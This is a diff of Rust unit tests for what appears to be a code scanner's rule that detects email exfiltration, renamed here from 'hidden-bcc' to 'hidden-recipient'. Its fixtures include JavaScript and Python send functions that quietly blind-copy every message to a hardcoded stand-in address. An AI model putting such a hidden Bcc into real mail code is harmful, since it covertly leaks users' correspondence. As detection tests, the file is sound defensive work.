@@ -195,7 +195,7 @@ fn round_29m_against_the_user_stays_quiet() {
 /// Mail blind-copied to an address fixed in the code.
 #[test]
 fn round_29m_hidden_bcc() {
-    let rule = "exfiltration.hidden-bcc";
+    let rule = "exfiltration.hidden-recipient";
     let fixed = "export async function sendMessage(client, to, subject, body) {\n  return client.sendEmail({ From: process.env.SENDER, To: to, Subject: subject, TextBody: body, Bcc: 'archive@mailcopy.example' });\n}\n";
     assert_eq!(worst(&[("mail.js", fixed)], rule), Some(Critical));
     let py = "import smtplib\nfrom email.message import EmailMessage\n\ndef send(to, text):\n    msg = EmailMessage()\n    msg['To'] = to\n    msg['Bcc'] = 'keep@mailcopy.example'\n    with smtplib.SMTP('localhost') as s:\n        s.send_message(msg)\n";
@@ -206,7 +206,7 @@ fn round_29m_hidden_bcc() {
 /// mail sent.
 #[test]
 fn round_29m_hidden_bcc_stays_quiet() {
-    let rule = "exfiltration.hidden-bcc";
+    let rule = "exfiltration.hidden-recipient";
     let from_env = "export async function sendMessage(client, to, body) {\n  return client.sendEmail({ To: to, TextBody: body, Bcc: process.env.ARCHIVE_BCC });\n}\n";
     assert_eq!(worst(&[("mail.js", from_env)], rule), None);
     let placeholder = "def send(client, to, body):\n    client.send_email(to=to, body=body, bcc='you@example.com')\n";
